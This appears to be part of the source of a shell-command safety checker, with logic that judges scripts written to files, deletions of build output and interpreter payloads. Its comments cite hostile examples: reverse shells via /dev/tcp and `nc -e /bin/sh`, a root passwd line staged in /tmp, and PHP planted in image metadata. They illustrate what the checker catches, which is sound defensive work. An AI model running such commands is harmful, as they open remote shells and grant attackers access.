        last = self._last_output
        if last is not None and last[0] is writer and last[1] == frame.dialect:
            text = last[2]  # `echo x > a.sh > b.sh`: one writer, many targets
        else:
            text = static_output(writer, None, frame.dialect)
            if text is None and any(DYN in a.text for a in writer):
                # `echo "sh -i >& /dev/tcp/$IP/9000" > x.sh`: the literal parts are still the script; a
                # run-time part stands as a plain word, so what it cannot hide is judged.
                held = [Arg(a.text.replace(DYN, _RUN_TIME_PART), a.raw) for a in writer]
                text = static_output(held, None, frame.dialect)
            self._last_output = (writer, frame.dialect, text)
        if not text or text.isspace():
            if whole is not None and stdin is not None:
                self._fed_script(target.text.replace("\\", "/"), writer, stdin, frame, whole)
            return
        language = self._judge_written_text(target, text, frame, writer)
        if language is not None and whole is not None and not any(DYN in a.text for a in writer):
            self.known_scripts[whole] = (language, None)

    def _judge_written_text(self, target: Arg, text: str, frame: Frame, writer: list[Arg]) -> str | None:
        """Judge `text` that `writer` puts into the file `target`; the file's script language, if any."""
        # What any file is given to hold (`… 'x:…:0:0:…' >> /tmp/passwd.bak`): lines staged to be copied where
        # they grant something, judged by the policy's `file-text` payload rules wherever they are written.
        self.payload(FILE_TEXT, text, frame, writer)
        language = self._script_language(target.text.replace("\\", "/"), text, frame)
        if language is not None:
            inner = frame.nested(f"the script `{target.raw}` that `{writer[0].raw}` writes")
            self._judge_script(text, language, inner, writer)
        return language

    def _piped_into_files(self, name: str, argv: list[Arg], stdin: Stdin | None, frame: Frame) -> None:
        """`echo 'nc -e /bin/sh h 4444' | tee -a x.sh`, `'…' | Out-File x.ps1`, `Set-Content x.ps1 -Value
        '…'`: text known before the line runs, written into files by a program, is judged as a redirect's
        is (see `_written_script`); exiftool's tag values as what any file is given to hold."""
        if name == "exiftool":
            # `exiftool -Comment='<?php …?>' x.png`: each tag's value is text the files now hold
            values = [a.text.partition("=")[2] for a in argv[1:] if a.text[:1] == "-" and "=" in a.text]
            if values:
                self.payload(FILE_TEXT, "\n".join(values).replace(DYN, _RUN_TIME_PART), frame, argv)
            return
        if name == "tee" and stdin is not None:
            targets = [a for a in argv[1:] if a.text[:1] != "-" and not _device(a.text)]
            if targets:
                self._fills_disk(argv, stdin, None, frame, shown_args(argv))
        text = written_value(argv[1:]) if name in _VALUE_WRITERS else None
        if text is None and stdin is not None and stdin.feed is not None:
            text = stdin.text()
        if not text or text.isspace():
            return
        for target in write_targets(name, argv[1:], frame.dialect, through_links=False):
            if DYN not in target.text and target.text.lower() not in _STREAMS and target.raw[:2] != ">(":
                self._judge_written_text(target, text, frame, argv)

    def _fed_script(self, path: str, writer: list[Arg], stdin: Stdin, frame: Frame, key: str) -> None:
        """A script written whole from the writer's input (`cat > x.py <<'EOF'`): writing code is no run, so
        its text is judged only if this line runs it (see `known_scripts`). An unquoted here-document's `$x`
        and backticks are expanded as it is read, so text holding them is not known now."""
        text = static_output(writer, stdin, frame.dialect)
        if not text or "$" in text or "`" in text or any(DYN in a.text for a in writer):
            return
        language = self._script_language(path, text, frame)
        if language is not None:
            self.known_scripts[key] = (language, text)

    def _script_language(self, path: str, text: str, frame: Frame) -> str | None:
        """The language a file at `path` holding `text` runs in (see `script_language`)."""
        language = script_language(path, text)
        if language is None and frame.dialect == "posix" and self._named_like_program(path):
            language = "posix"  # a shim put before the real program on PATH: a shell runs it without `#!`
        return language

    def _judge_script(self, text: str, language: str, inner: Frame, argv: list[Arg]) -> None:
        """Check `text` as a script of `language`: a shell's, or an interpreter's payload."""
        scope = self._scope
        cwd = scope.cwd if scope is not None else None
        if language in ("posix", "powershell", "cmd"):
            self.script(text, language, inner)  # type: ignore[arg-type]
        else:
            self.payload(language, text, inner, argv)
        # the script's `cd` moves the shell that runs it, not this line (`echo cd > x.sh` writes here)
        if scope is None:
            self._scope = None
        else:
            scope.cwd = cwd

    def _named_like_program(self, path: str) -> bool:
        """Is the file at `path` named, without an extension, as a program the policy knows
        (`/tmp/bin/python3`, `ps`): text written there runs when that name is looked up on PATH."""
        name = path.rpartition("/")[2]
        return bool(name) and "." not in name and command_key(name) in self.index.by_name

    def _replaceable(self, target: Arg, frame: Frame, upto: int, written: bool = True) -> bool:
        """May this line replace the whole of `target` without loss? Only for a file in the project that is
        new, empty or ignored output (see `_project`) and that this line leaves alone before the write (see
        `_untouched_place`). A file that exists also counts as named by any earlier glob or run-time word."""
        if target.text == MADE_TEMP:
            return True  # the file `mktemp` made for the line: empty, or holding what the line wrote
        place = self._untouched_place(target, frame, upto, written)
        if place is None or self._files is None:
            return False
        relative, wild = place
        if maybe_glob(relative):
            # `> dist/*.sha256`, or `"$f.sha256"` in a loop over `dist/*`: every file it names now
            matches = self._files.matching(relative)
            return matches is not None and all(self._spares(m, frame, wild) for m in matches)
        return self._spares(relative, frame, wild)

    def _spares(self, relative: str, frame: Frame, wild: bool) -> bool:
        """Does replacing the project file at `relative` lose nothing (see `_replaceable`)?"""
        state = self._files.state(relative) if self._files is not None else None
        if state == "ignored" and self._holds_credentials(relative, frame):
            return False  # `.env` is ignored because it holds the user's keys, not because it is output
        return state == "new" or (state is not None and not wild)

    def _holds_credentials(self, relative: str, frame: Frame) -> bool:
        """Is the project file at `relative` one the credential rules guard wherever it lies (`.env`,
        `config/secrets.json`, a stray `id_rsa`)? Asked of its path below a folder, which they all cover."""
        entries, _ = self.p.argument_rules[frame.dialect]
        path = f"project/{relative}"
        return any(rule.category == "env" and pattern.match(path) for rule, pattern, _ in entries)

    def _untouched_place(
        self, target: Arg, frame: Frame, upto: int, written: bool = True
    ) -> tuple[str, bool] | None:
        """Where the literal file `target` lies in the known working directory (relative to it), and whether
        an earlier command of the line has a glob or run-time word; None when there is no such place or a
        command before this one in the line names or writes it: `sort f > f` and `mv a f; x > f` empty a
        file that held something, `mv src build; rm -rf build` deletes the sources. `upto`: how many of the
        line's commands run before this one; `written`: whether to look for the file among the ones this
        line writes (the caller did already)."""
        if DYN in target.text or _PERCENT_NAME.search(target.raw):
            return None  # `%TEMP%\x` is a cmd variable, wherever the line runs: a run-time place
        key = path_key(target.text)
        if written and key in self.written and not self._rewritten_by_loop(key):
            return None
        named, wild = self._named(upto)
        if key in named and not self._rewritten_by_loop(key):
            return None
        self._spend(DISK_LOOKUP_WORK)  # a fresh checkout reads no disk, but judging the place costs as much
        relative = self.scope(frame).replaceable_place(target)
        if relative is None:
            return None
        if self._files is None:
            self._files = FreshCheckout() if self.root is None else ReplaceableFiles(self.root)
        return relative, wild

    def _syncs_into_output(self, names: tuple[str, ...], argv: list[Arg], frame: Frame) -> bool:
        """Does `rsync --delete SRC… DEST` delete only what `rm -rf DEST` may (build output, see
        `_deletes_output_only`)? Not with `--remove-source-files`, which deletes the sources, nor a word known
        only at run time, nor an option that may take the next word as its value."""
        if "rsync" not in names:
            return False  # (robocopy's `/MIR` is read by no one here)
        operands: list[Arg] = []
        value_next = False
        for a in argv[1:]:
            t = a.text
            if DYN in t or t.startswith("--remove-source") or t == "--":
                return False
            if value_next:
                value_next = False
            elif t.startswith("--"):
                value_next = t in _RSYNC_VALUED
            elif t[:1] == "-" and len(t) > 1:
                value_next = t in _RSYNC_VALUED or "-" + t[-1] in _RSYNC_VALUED
            else:
                operands.append(a)
        if len(operands) < 2 or ":" in operands[-1].text:
            return False
        return self._deletes_output_only(("rm",), [Arg("rm", "rm"), operands[-1]], frame, argv)

    def _deletes_output_only(
        self, names: tuple[str, ...], argv: list[Arg], frame: Frame, walked: list[Arg] | None = None
    ) -> bool:
        """Does `rm -rf build dist`, `rimraf coverage`, `Remove-Item .\\bin -Recurse` delete nothing but build
        output in the known working directory (ignored, untracked, in an output folder: see `_project`)?
        Literal paths, or globs judged by the files they name now (`rm -rf *.egg-info`); nothing copied or
        moved earlier in the line, and nothing in the trees named earlier (`mv src build/; rm -rf build`
        deletes the sources). `walked`: the command as the walk saw it, when `argv` stands for it (a `find`
        or an interpreter's clean step judged as the `rm -rf` it amounts to)."""
        if self.copied or (
            self.root is None and not names_output(argv) and not any(names_a_file(a.text) for a in argv[1:])
        ):
            return False  # a fresh checkout spares only trees named as build output, and files
        targets = tree_delete_targets(names, argv[1:], frame.dialect)
        if not targets or len(targets) > SPARED_DELETE_TARGETS:
            return False
        files_too = "rd" not in names and "rmdir" not in names and "cmake" not in names  # (folders only)
        swept: list[str] = []  # what a workspace selector's delete names, anywhere in the project
        spared = False  # a glob target that names nothing now loses nothing, whatever it is called
        walked = walked or argv
        # The trees named before it: a find is followed by the `rm` it runs (and `xargs` between them), so
        # the find's own starts are not "named earlier" (`find build -exec rm -rf {} +`, `find build | xargs
        # rm -rf`: as equal words, since a pipeline's stage is read again for its feed).
        upto = len(self.seen)
        for i in range(len(self.seen) - 1, max(len(self.seen) - 4, -1), -1):
            if self.seen[i] is walked or self.seen[i] == walked:
                upto = i
                break
        named = self._named_trees(upto)
        if _TOO_DEEP in named:
            return False  # which trees were named earlier is not worked out: none is spared
        places = []
        for target in targets:
            contents = _CONTENTS.search(target.text)
            if contents is not None:
                # `rm -rf build/*`, `rm -f ./bin/*`: what a folder holds, a part of deleting the folder
                cut = contents.start()
                target = Arg(target.text[:cut], target.raw[: len(target.raw) - len(contents.group())])
            sweep = globstar_sweep(target.text)
            if sweep is not None and self._sweeps_below(sweep, named, upto, frame):
                spared = True
                continue  # otherwise judged as any glob (`lib/**/*.d.ts` in an unknown checkout)
            key = path_key(target.text).rstrip("/")
            if _DRIVE.match(target.text) or key in named:
                return False  # the tree or something in it named earlier (`mv src build/; rm -rf build`)
            if (
                self.scope(frame).in_some_workspace()
                and names_workspace_output(target.text, files_too)
                and key not in self.written
                and not self._named(upto)[1]
            ):
                # `pnpm -r exec rimraf dist`: build output in one of the project's folders, which one
                # unknown: judged as the sweep of that name through the whole project (`**/dist`)
                swept.append(
                    "/".join(p for p in target.text.replace("\\", "/").split("/") if p not in ("", "."))
                )
                continue
            place = self._untouched_place(target, frame, upto)
            if place is None or place[1]:
                return False
            if (
                names_a_file(target.text)
                and files_too
                and self._files is not None
                and self._files.no_folder(place[0])
            ):
                # `rimraf mocha.js mocha.js.map`, `rm -rf ./*.d.ts`: named files, deleted as `rm -f` would
                spared = True
                continue
            if maybe_glob(target.text):
                if ".." in target.text or not maybe_glob(place[0]):
                    return False  # `build/*/lib/../../src`: where `..` leads past a glob depends on links
                if self.root is not None:
                    # `rm -rf *.egg-info`: what the glob names now, each judged as if named
                    matches = self._files.matching(place[0]) if self._files is not None else None
                    if matches is None:
                        return False
                    places.extend(matches)
                    spared = True
                    continue
            places.append(place[0])
        if swept:
            self._spend(DISK_LOOKUP_WORK)
            if self._files is None:
                self._files = FreshCheckout() if self.root is None else ReplaceableFiles(self.root)
            if not self._files.swept([""], swept, False):
                return False
            spared = True
        return self._files is not None and (self._files.removable(places) or (spared and not places))

    def _sweeps_below(self, sweep: tuple[str, str], named: set[str], upto: int, frame: Frame) -> bool:
        """Does `FOLDER/**/NAME` (see `globstar_sweep`) delete only compiled or cached files, or trees named
        as build output git keeps nothing in, as `find FOLDER -name NAME` would select them? Nothing before
        it in the line may name a path in that folder or hold a glob or run-time word (`mv src build/`)."""
        folder, name = sweep
        lowered = name.lower()
        if not swept_name(lowered):
            return False
        start = path_key(folder).rstrip("/")
        inside = start in ("", ".") and bool(named)
        if inside or any(k == start or k.startswith(start + "/") for k in named) or self._named(upto)[1]:
            return False
        if self._files is None:
            self._files = FreshCheckout() if self.root is None else ReplaceableFiles(self.root)
        if is_artefact_name(lowered):
            return self.scope(frame).replaceable_place(Arg(folder, folder), whole=True) is not None
        return self._output_swept([Arg(folder, folder)], [name], False, frame)

    def _finds_in_output_only(self, argv: list[Arg], frame: Frame) -> bool:
        """Does `find build dist -type f -empty -delete` delete only inside trees that are build output (see
        `_deletes_output_only`: as much as `rm -rf build dist` may)?"""
        starts = find_starts(argv)
        return bool(starts) and self._deletes_output_only(("rm",), [Arg("rm", "rm"), *starts], frame, argv)

    def _sweeps_output(self, argv: list[Arg], frame: Frame) -> bool:
        """Does `find packages -name dist -type d -prune` select only trees named as build output that git
        neither tracks nor keeps (see `ProjectFiles.swept`), so deleting each loses no more than `rm -rf`
        of it may? Nothing copied or renamed earlier in the line (`mv src dist` makes sources one of them)."""
        swept = None if self.copied else find_swept_output(argv[1:])
        if swept is None:
            return False
        starts, names, icase = swept
        return not names or self._output_swept(starts, names, icase, frame)  # no names: compiled files only

    def _output_swept(self, starts: list[Arg], names: list[str], icase: bool, frame: Frame) -> bool:
        """Does deleting everything called one of `names` below the folders `starts` lose nothing (see
        `ProjectFiles.swept`)?"""
        self._spend(DISK_LOOKUP_WORK * len(starts))
        scope = self.scope(frame)
        places = [scope.replaceable_place(start, whole=True) for start in starts]
        if self._files is None:
            self._files = FreshCheckout() if self.root is None else ReplaceableFiles(self.root)
        return None not in places and self._files.swept(places, names, icase)  # type: ignore[arg-type]

    def _sed_writes_output(self, commands: str, frame: Frame) -> bool:
        """Does a sed script (its commands, `sed_commands`) write only files that replacing loses nothing of,
        judged as a redirect's target is (`w comments.txt` in the project, new or ignored output)?"""
        targets = sed_write_targets(commands)
        upto = max(len(self.seen) - 1, 0)  # the commands before sed: sed is the last one seen
        if not targets:
            return False
        return all(DYN not in t and self._replaceable(Arg(t, t), frame, upto) for t in targets)

    def _cleans_output(self, language: str, code: str, frame: Frame, argv: list[Arg]) -> bool:
        """Is an interpreter's code given as the last word (`python -c CODE`, `node -e CODE`) a clean step
        (see `deleted_literals`) that deletes only what `rm -rf` of the same paths may?"""
        if not argv or argv[-1].text != code:
            return False  # arguments after the code may be what it deletes (`sys.argv[1]`)
        paths = deleted_literals(language, code)
        return paths is not None and self._deletes_output_only(
            ("rm",), [Arg("rm", "rm"), *(Arg(p, p) for p in paths)], frame, argv
        )

    def _checks_syntax_only(self, names: tuple[str, ...], argv: list[Arg]) -> bool:
        """Is this an interpreter told, by a word written out, only to check its files' syntax (`php -l`,
        `ruby -c`: see `_SYNTAX_CHECKS`), so that a word known only at run time is one more file to check and
        no subcommand, script or option that could make it serve or run anything?"""
        if not any(a.text in _SYNTAX_CHECKS for a in argv[1:]):
            return False  # (asked for each clause a run-time word leaves open: the words first)
        spec = self.p.executor_for(names[0])
        if spec is None:
            return False
        flags = _SYNTAX_CHECKS.intersection(spec.no_program_flags)
        return any(a.text in flags and DYN not in a.text for a in argv[1:])

    def _deletes_swept_artefacts(
        self, names: tuple[str, ...], argv: list[Arg], feeds: tuple[Feed, ...], frame: Frame
    ) -> bool:
        """Does `rm` delete only what a `find` sweep of compiled and cached files, or of trees named as build
        output git keeps nothing in, hands it (`find . -name '*.pyc' -exec rm -f {} +`, `find . -name
        __pycache__ | xargs rm -r`, `rm -rf $(find . -name __pycache__)`, `find . -name dist -exec rm -rf {}
        +`), or a `find` searching only trees that are build output (`find target -name incremental -exec rm
        -rf {} +`, as much as `rm -rf target` may)? Each feed must come straight from such a `find` (a filter
        between them may rewrite the names), and `rm` may name nothing else. Nothing copied or renamed earlier
        in the line (`mv app.py app.pyc` makes a source one of them)."""
        if (
            self.copied
            or frame.dialect != "posix"
            or _SWEEP_DELETERS.isdisjoint(names)
            or not fed_operands_only(argv[1:])
        ):
            return False
        chains = self._producers(feeds, frame.dialect)
        return len(chains) == len(feeds) and all(
            (
                not FINDS.isdisjoint(chain[0].names)
                and (
                    find_sweeps_artefacts(chain[0].argv[1:])
                    or self._sweeps_output(chain[0].argv, frame)
                    or self._finds_in_output_only(chain[0].argv, frame)
                )
            )
            or grep_sweeps_artefacts([(view.names, view.argv) for view in chain])
            for chain in chains
        )

    def _deletes_listed_output(
        self, names: tuple[str, ...], argv: list[Arg], feeds: tuple[Feed, ...], frame: Frame
    ) -> bool:
        """Does `Get-ChildItem bin, obj -Recurse | Remove-Item -Recurse` (or `Get-Item`) delete only inside
        trees it names, each build output (as `Remove-Item bin, obj -Recurse` may: `_deletes_output_only`)?
        The lister must feed Remove-Item straight, and Remove-Item name nothing of its own."""
        if frame.dialect != "powershell" or "remove-item" not in names or len(feeds) != 1:
            return False
        if tree_delete_targets(names, argv[1:], "powershell") != []:
            return False  # words of its own (`-Path x`) or ones that select (`-Include`)
        chains = self._producers(feeds, "powershell")
        if len(chains) != 1 or _LISTERS.isdisjoint(chains[0][0].names):
            return False  # a filter between them (`| Where-Object …`) is judged as the producer it is
        listed = listed_selection(chains[0][0].argv[1:])
        if listed is None:
            return False
        trees, patterns = listed
        if not self.copied and lister_sweeps_artefacts(trees, patterns):
            return True  # `Get-ChildItem -Recurse -Filter *.pyc | Remove-Item`: a sweep, as `find` makes
        swept = None if self.copied else lister_swept_output(trees, patterns)
        if swept is not None:
            # `Get-ChildItem -Include bin,obj -Recurse | Remove-Item -Recurse`, `find -name bin -o -name obj`
            # (Windows compares names without case)
            return self._output_swept(trees or [Arg(".", ".")], swept, True, frame)
        return bool(trees) and self._deletes_output_only(("remove-item",), [argv[0], *trees], frame, argv)

    def _judge_piped_paths(
        self,
        names: tuple[str, ...],
        argv: list[Arg],
        feeds: tuple[Feed, ...],
        stdin: Stdin | None,
        frame: Frame,
    ) -> None:
        """`Get-ChildItem C:\\Windows\\Logs | Remove-Item`, `$old | Remove-Item`, `'C:\\x' | Set-Acl
        -AclObject $a`: a cmdlet that names no item of its own changes the items piped to it. Those in the
        folders a lister names are judged as places it writes, as if it named them; the lines of a text known
        before the line runs likewise; anything else piped is a place only known at run time."""
        if names_own_path(argv[1:]):
            return  # it names its own targets, judged as any command's
        scope = self.scope(frame)
        words = self._argv(argv, names)
        listed = False
        for chain in self._producers(feeds, "powershell"):
            for producer in chain:
                if producer.cut:  # a lister may be further up: what it lists is not known
                    self._judge_write(scope, Arg(DYN, "$_"), frame, words, False)
                    listed = True
                    continue
                if _LISTERS.isdisjoint(producer.names):
                    continue
                listed = True
                for target in listed_trees(producer.argv[1:]):
                    if DYN not in target.text:
                        self._judge_write(scope, target, frame, words, False)
                # `-Recurse -Force` from the top lists the files of .git and .hazina too (`_find_reach`).
                for place in lister_reaches_protected(producer.argv[1:], self.root):
                    self._judge_write(scope, Arg(f"{place}/x", f"{place}/x"), frame, words, False)
        if listed:
            return
        text = stdin.text() if stdin is not None and stdin.feed is not None else None
        if text is None:
            self._judge_write(scope, Arg(DYN, "$_"), frame, words, False)  # the piped item's own name
            return
        for line in text.splitlines():
            if line.strip():
                self._judge_write(scope, Arg(line.strip(), line), frame, words, False)

    def _hand_on(self, argv: list[Arg], words: list[Arg]) -> None:
        """Note the words of `argv` that it hands on to the command it runs (`npx rimraf dist`, `cmd /c rd /s
        /q dist`, `nice rm -rf build`): that command names them itself, so the wrapper before it does not
        count as naming them too (see `_named`). Only the wrapper's own words are kept, by identity."""
        own = {id(a) for a in argv}
        for a in words:
            if id(a) in own:
                self._handed[id(a)] = a  # kept alive with its id: a new word can never take the id over

    def _named(self, upto: int) -> tuple[set[str], bool]:
        """The files the first `upto` commands of the line name, and whether one of their words is a glob or
        known only at run time, leaving out the words a wrapper hands on (the command it runs names them).
        Built up as the walk goes, so many writes in one line stay linear."""
        named, done, wild = self._names
        handed = self._handed
        for argv in self.seen[done:upto]:
            if argv and (command_key(argv[0].text) in _ADDS_NOTHING or _blocks_only(argv)):
                continue  # `test -f f`, or `rm -rf dist && tsc && rm -rf dist`: nothing put into them
            left_out = _find_exclusions(argv)
            for i, a in enumerate(argv):
                if i in left_out or (handed and id(a) in handed):
                    continue
                text = a.text
                if DYN in text or "*" in text or "?" in text or "[" in text:
                    wild = True
                else:
                    named.add(path_key(text))
        if upto > done:
            self._names = (named, upto, wild)
        return named, wild

    def _named_trees(self, upto: int) -> set[str]:
        """The literal paths the first `upto` commands of the line name, and every folder above each: a tree
        is in it when it or anything inside it was named. Built up as the walk goes (many deletes stay
        linear). Words a wrapper hands on are left out, as in `_named`."""
        trees, done = self._trees
        handed = self._handed
        for argv in self.seen[done:upto]:
            if argv and (command_key(argv[0].text) in _ADDS_NOTHING or _blocks_only(argv)):
                continue  # `if (Test-Path dist) { Remove-Item dist -Recurse }`, or an earlier `rm -rf dist`
            for a in argv:
                if handed and id(a) in handed:
                    continue
                text = a.text
                if DYN in text or "*" in text or "?" in text or "[" in text:
                    continue
                key = path_key(text).rstrip("/")
                if key.count("/") > _NAMED_TREE_DEPTH:
                    trees.add(_TOO_DEEP)  # listing every folder above it would cost the square of the word
                    continue
                while key and key not in trees:
                    trees.add(key)
                    key = key.rpartition("/")[0]
        if upto > done:
            self._trees = (trees, upto)
        return trees

    def _regenerates(self, names: tuple[str, ...], argv: list[Arg], frame: Frame) -> bool:
        """Does `tee F`, `Out-File F`, `Set-Content F` … write its output only into files that hold nothing
        to lose (see `_replaceable`)? What runs before it in the line is what it could destroy."""
        name = next((n for n in names if n in _REGENERATING), None)
        if name is None:
            return False
        if name in DOTNET_OVERWRITERS and self.changed_directory():
            return False  # .NET resolves a relative name from the process's folder, which `cd` does not move
        if name in ("ln", "gln"):
            # `ln -sf ../src/x.py x.py` replaces only the link it makes (where the link leads is the
            # containment rule's). A file replaced by a link to a device (`ln -sf /dev/null log`) is
            # emptied for good, so such a link is never spared as output.
            device = any(a.text.startswith("/dev/") for a in argv[1:])
            links = ln_links(argv[1:]) if frame.dialect == "posix" and not device else None
            targets = links or []
        else:
            targets = [
                t
                for t in write_targets(name, argv[1:], frame.dialect, through_links=False)
                if t.text.lower() not in _STREAMS and t.raw[:2] != ">("  # `tee >(grep x) log`: a pipe
            ]
        keys = [path_key(t.text) for t in targets]
        if not targets or len(set(keys)) != len(keys):
            return False
        if self.edited and all(k in self.edited for k in keys):
            return True  # edited in place, like `sed -i`: what the file held is what is written back
        upto = len(self.seen) - 1 if self.seen and self.seen[-1] is argv else len(self.seen)
        # A CI step's output or summary file (`Out-File $env:GITHUB_STEP_SUMMARY`) holds only its own text.
        return all(is_step_file(t.raw) or self._replaceable(t, frame, upto) for t in targets)

    def _reads_named_variables(self, language: str, program: str, patterns: Any, frame: Frame) -> bool:
        """Does a payload touch the environment only by reading variables by their literal names? Then each
        name is judged as the line's shell would judge reading it (`$NAME`, `$env:NAME`): a named setting
        is fine, a secret's name is not (reported here); a dump or any other access is the payload rule's."""
        named = named_env_reads(language, program)
        if named is None or patterns.search(named[1], {}) is not None:
            return False
        for name, code in named[0]:
            self.variable(f"env:{name}" if frame.dialect == "powershell" else name, frame, code)
        return True

    def variable(self, name: str, frame: Frame, raw: str, program: str | None = None) -> None:
        self._spend(1 + len(name) // VARIABLE_CHARS_PER_UNIT)
        long = len(name) >= LONG_NAME
        for rule, pattern, printers in self.index.variables.get(frame.dialect, ()):
            if (not long or may_fullmatch(pattern, name)) and pattern.fullmatch(name):
                if program is not None and program in printers:
                    return  # `echo "$HISTFILE"`: the path printed, nothing of the file read
                self._add(rule, [raw], f"`{raw}`{frame.where()} {rule.description}")
                return

    def dotnet(
        self, type_name: str, member: str | None, frame: Frame, raw: str, called: bool = False
    ) -> None:
        key = dotnet_key(type_name)
        entries = self.index.dotnet.get(key, ())
        if "." in key:
            by_last_name = self.index.dotnet.get("*." + key.rpartition(".")[2])
            if by_last_name:
                entries = [*entries, *by_last_name]
            by_namespace = self.index.dotnet.get(key.partition(".")[0] + ".*")
            if by_namespace:
                entries = [*entries, *by_namespace]
        any_type = self.index.dotnet.get("**") if type_name != "*" else None
        if any_type:
            entries = [*entries, *any_type]
        if not entries:
            return
        call = f"{member}()" if called and member is not None else None
        for rule, members in entries:
            # A member written `run()` in a clause counts only when it is called; a bare one either way.
            if members is None or (
                member is not None and (members.match(member) or (call is not None and members.match(call)))
            ):
                if type_name == "*":
                    shown = f"{raw}.{member}"  # an instance member: `$d.Delete`
                elif member and not raw.startswith("New-Object "):
                    shown = f"{raw}::{member}"
                else:
                    shown = raw
                self._add(rule, [shown], f"`{shown}`{frame.where()} {rule.description}")

    def _payload_write(self, language: str, path: str, frame: Frame, argv: list[Arg]) -> None:
        """A file an interpreter's code adds to or copies onto (`open('/etc/hosts', 'a')`), judged where it
        is as `>> /etc/hosts` would be: in the project it is fine, outside it is a write there."""
        verdict = self.scope(frame).judge_write(Arg(path, path))
        if verdict is not None:
            how = f"`{shown_args(argv)}`{frame.where()} writes `{path}` from its {language} code"
            self.event(verdict.event, frame, f"{how}: {verdict.detail}", self._argv(argv))  # type: ignore[arg-type]

    def static_output(self, argv: list[Arg], stdin: Stdin | None, dialect: Dialect) -> str | None:
        self._spend(len(argv))  # the walk read the producer's words again to get here
        return static_output(argv, stdin, dialect)

    # -- payloads --
    def payload(self, language: str, text: str, frame: Frame, argv: list[Arg]) -> None:
        self._spend(len(text) // PAYLOAD_CHARS_PER_UNIT)  # before the patterns run over it
        if language == "python" and ("exec" in text or "eval" in text):
            code = exec_literal_code(text)
            if code is not None:
                self.payload(language, code, frame, argv)  # `exec('import json')` runs `import json`
                return
        for path in written_literals(language, text):
            self._payload_write(language, path, frame, argv)
        p = self.p
        key = (language, text)
        remember = p.memo_limit > 0 and len(text) <= PAYLOAD_MEMO_TEXT
        known = p.payload_results.get(key) if remember else None
        if known is None:
            prepare = PREPARE.get(language)
            program = prepare(text) if prepare is not None else text
            screen = self.index.payload_screen.get(language)
            if screen is not None and not screen.search(program):
                program = None  # not one fragment any pattern needs: no pattern can match
            known = (program, ())
            if remember and len(p.payload_results) < p.memo_limit:
                p.payload_results[key] = known
        program, found = known
        if program is None:
            return
        memo: dict[int, bool] = {}
        for i, (rule, clause, patterns) in enumerate(self.index.payloads.get(language, ())):
            if i < len(found):
                hit = found[i]
            else:
                m = patterns.search(program, memo)
                hit = None if m is None else " ".join(m.group(0).split())
                found = (*found, hit)  # a new tuple: another thread may read the old one
                if remember and len(p.payload_results) < p.memo_limit:
                    p.payload_results[key] = (program, found)
            if hit is None:
                continue
            if rule.id == _NETWORK_PAYLOAD and version_probe(language, text):
                continue  # a library's version printed: nothing is called
            if rule.id == _ENV_PAYLOAD and self._reads_named_variables(language, program, patterns, frame):
                continue  # `os.environ.get('CI')`: each name judged as the shell's own read of it
            if rule.id == _PAYLOAD_DELETE and self._cleans_output(language, text, frame, argv):
                continue  # `python -c "import shutil; shutil.rmtree('dist')"`: judged as `rm -rf dist`
            if rule.id == _PAYLOAD_WRITE and language == "awk" and not awk_prints_to_file(program):
                continue  # the `>` the pattern saw is text in a string (`printf "make <target>\n"`)
            if rule.id == _PAYLOAD_WRITE and language == "sed" and self._sed_writes_output(program, frame):
                continue  # `sed -n '/^#/w comments.txt' f`: a new file in the project, as `> comments.txt`
            if clause.literals_are_commands:
                inner = frame.nested(f"a `{language}` payload")
                for literal in string_literals(program):
                    self.script(literal, "posix", inner)
            self._add(
                rule,
                self._argv(argv),
                f"`{shown_args(argv)}`{frame.where()} {rule.description} (`{hit}`)",
            )
